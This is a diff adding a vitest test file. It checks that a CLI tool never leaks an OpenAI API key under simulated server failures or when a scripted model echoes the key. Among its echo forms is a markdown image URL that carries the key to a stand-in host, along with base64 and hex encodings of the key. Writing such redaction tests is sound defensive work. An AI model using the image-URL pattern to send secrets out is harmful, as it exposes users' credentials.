@@ -1,0 +1,71 @@
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
+import { createCanaryWorld, keysSeen, settle, type CanaryWorld } from '../support/canary-world.ts'
+import { personalities } from '../support/openai-standin-personalities.ts'
+
+/* All that can go wrong at OpenAI, met by a flow of every node type: no key shows up in what is said, written or sent. */
+let world: CanaryWorld
+
+beforeAll(async () => {
+  world = await createCanaryWorld()
+})
+afterAll(() => world.close())
+afterEach(() => {
+  expect(world.leaks()).toEqual([])
+  expect(world.foreign.requests).toEqual([])
+  settle([world.openai])
+})
+
+const every = ['run', 'every.flow.json', '--input', 'url=http://127.0.0.1:7777/']
+const MODES = ['json', 'events', 'plain'] as const
+const PERSONALITIES = [...Object.keys(personalities).filter((name) => name !== 'good'), 'redirects']
+/** They get through at the second try, or lack no right that the flow needs. */
+const END_WELL: ReadonlySet<string> = new Set(['restricted', 'rateLimited', 'overloaded'])
+
+const cases = PERSONALITIES.map((personality, at) => ({
+  personality,
+  mode: MODES[at % MODES.length],
+  source: at % 4 < 2 ? 'a variable' : 'a file',
+  isNoisy: at % 2 === 0,
+}))
+
+test.each(cases)('a key that is "$personality", from $source, shows up nowhere ($mode)', async (facts) => {
+  const { personality, mode, source, isNoisy } = facts
+  const { openai, latch, plant, plantFile } = world
+  const key = openai.key(personality)
+  const surroundings = isNoisy ? world.ambient() : { LATCH_OPENAI_BASE_URL: openai.url }
+  const args = mode === 'plain' ? [] : [`--${mode}`]
+  const limit = personality === 'slow' ? ['--timeout', '900ms'] : []
+  const end =
+    source === 'a file'
+      ? await latch(
+          [...every, ...args, ...limit, '--secret', `OPENAI_API_KEY=@${plantFile(personality, key)}`],
+          surroundings,
+        )
+      : await latch([...every, ...args, ...limit], { ...surroundings, OPENAI_API_KEY: plant(personality, key) })
+  expect(end.code, end.stderr).toBe(END_WELL.has(personality) ? 0 : 1)
+  // An admin key is known by its beginning and not sent at all.
+  expect(keysSeen(openai)).toEqual(personality === 'admin' ? [] : [key])
+})
+
+const echoes: Readonly<Record<string, (key: string) => string>> = {
+  raw: (key) => `Your key is ${key}, is it not?`,
+  base64: (key) => `In base64: ${Buffer.from(`key ${key}`).toString('base64')}.`,
+  hex: (key) => `In hex: ${Buffer.from(key).toString('hex')}.`,
+  'a URL': (key) => `![picture](https://pictures.example/?k=${encodeURIComponent(key)})`,
+  JSON: (key) => JSON.stringify({ key: JSON.stringify({ key }) }),
+}
+
+test.each(Object.keys(echoes))('a model that says the key (%s) says it to nobody', async (form) => {
+  const { openai, latch, plant } = world
+  const key = plant(`echoed ${form}`, openai.key('good', form))
+  openai.script(({ body, toolOutputs }) => {
+    if (typeof body['instructions'] === 'string' && toolOutputs.length === 0)
+      return [{ call: 'double', arguments: { a: 4, note: echoes[form](key) } }]
+    return typeof body['text'] === 'object' && JSON.stringify(body['text']).includes('json_schema')
+      ? [{ value: { topic: echoes[form](key), score: 1 } }]
+      : [{ text: echoes[form](key) }]
+  })
+  const variables = { LATCH_OPENAI_BASE_URL: openai.url, OPENAI_API_KEY: key }
+  const end = await latch([...every, '--events'], variables)
+  expect(end).toMatchObject({ code: 0, stdout: expect.stringContaining('[secret]') })
+})
